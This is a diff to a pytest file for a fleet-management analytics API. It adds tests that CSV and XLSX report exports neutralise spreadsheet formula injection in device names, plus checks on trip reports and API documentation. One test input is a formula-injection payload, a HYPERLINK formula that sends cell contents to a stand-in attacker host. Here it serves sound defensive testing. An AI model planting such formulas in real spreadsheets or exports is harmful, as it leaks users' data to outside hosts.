@@ -23,7 +23,9 @@ from analytics.helpers import (
     store,
 )
 from conftest import RunningServer, Tenant, assert_problem
+from fleetplane.analytics import exports
 
+TRIP_REPORTS = ("mileage", "trips", "parkings", "utilization")
 DAY = {"from_": "2026-11-05T22:00:00Z", "to": "2026-11-08T22:00:00Z", "group_by": "day"}
 SVG = "{http://www.w3.org/2000/svg}"
 
@@ -113,6 +115,39 @@ def test_xlsx_has_units_formats_and_a_totals_row(engine_tenant: Tenant) -> None:
     assert about["Time zone"] == "Europe/Riga" and about["Report"] == "engine_hours"
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1+1)"]
+
+
+def test_device_names_never_become_formulas(engine_tenant: Tenant) -> None:
+    """CSV: a text cell starting as a formula gets a leading quote; XLSX: written as text."""
+    for number, name in enumerate(FORMULAS):
+        device = device_of(engine_tenant, 0, number)
+        renamed = engine_tenant.api.patch(f"/api/devices/{device}", json={"name": name})
+        assert renamed.status_code == 200, renamed.text
+    api = engine_tenant.module_api(0)
+    for report in ("engine_hours", "mileage"):
+        response = get_report(api, report, format="csv", **DAY)
+        assert response.status_code == 200, response.text
+        names = {row["device_name"] for row in csv.DictReader(io.StringIO(response.text))}
+        assert names == {f"'{name}" for name in FORMULAS}
+        response = get_report(api, report, format="xlsx", **DAY)
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Report"]
+        cells = [sheet.cell(row, 1) for row in range(2, sheet.max_row)]
+        assert {cell.value for cell in cells} == set(FORMULAS)
+        assert {cell.data_type for cell in cells} == {"s"}  # not "f": no formula
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
+        ("\r=1", "'\r=1"), ("Van 1", "Van 1"), ("1-2", "1-2"), ("", ""),
+    ],
+)  # fmt: skip
+def test_csv_text_that_starts_a_formula_is_quoted(text: str, written: str) -> None:
+    assert exports.as_text(text) == written
+
+
 def test_png_chart_is_an_image(engine_tenant: Tenant) -> None:
     response = get_report(engine_tenant.module_api(0), "engine_hours", format="png", **DAY)
     assert response.status_code == 200, response.text
@@ -181,7 +216,7 @@ def test_a_chart_of_many_devices_and_periods_says_what_it_left_out(
 
 def test_totals_add_up_over_many_rows(engine_tenant: Tenant) -> None:
     api = engine_tenant.module_api(0)
-    for report in ("engine_hours", "idling", "speeding", "fuel"):
+    for report in ("engine_hours", "idling", "speeding", "fuel", *TRIP_REPORTS):
         for group_by in ("day", "week", "month", "none"):
             query = {"from_": "2026-08-01T00:00:00Z", "to": "2026-11-29T00:00:00Z"}
             body = report_json(api, report, group_by=group_by, **query)
@@ -284,3 +319,12 @@ def test_the_operation_is_documented_with_its_permission(server: RunningServer) 
     assert set(content) == {
         "application/json", "text/csv; charset=utf-8", "image/png", "image/svg+xml", xlsx
     }  # fmt: skip
+    [report] = [p for p in operation["parameters"] if p["name"] == "report"]
+    assert set(TRIP_REPORTS) <= set(report["schema"]["enum"])
+    description = operation["description"]
+    assert "Not available" not in description
+    for figure in ("`distance_km` (km)", "`avg_speed` (km/h)", "`longest_s` (s)",
+                   "`utilization_pct` (%)"):  # fmt: skip
+        assert figure in description
+    figures = document["components"]["schemas"]["FigureOut"]["properties"]
+    assert "ratio" in figures and "`ratio`" in figures["total"]["description"]
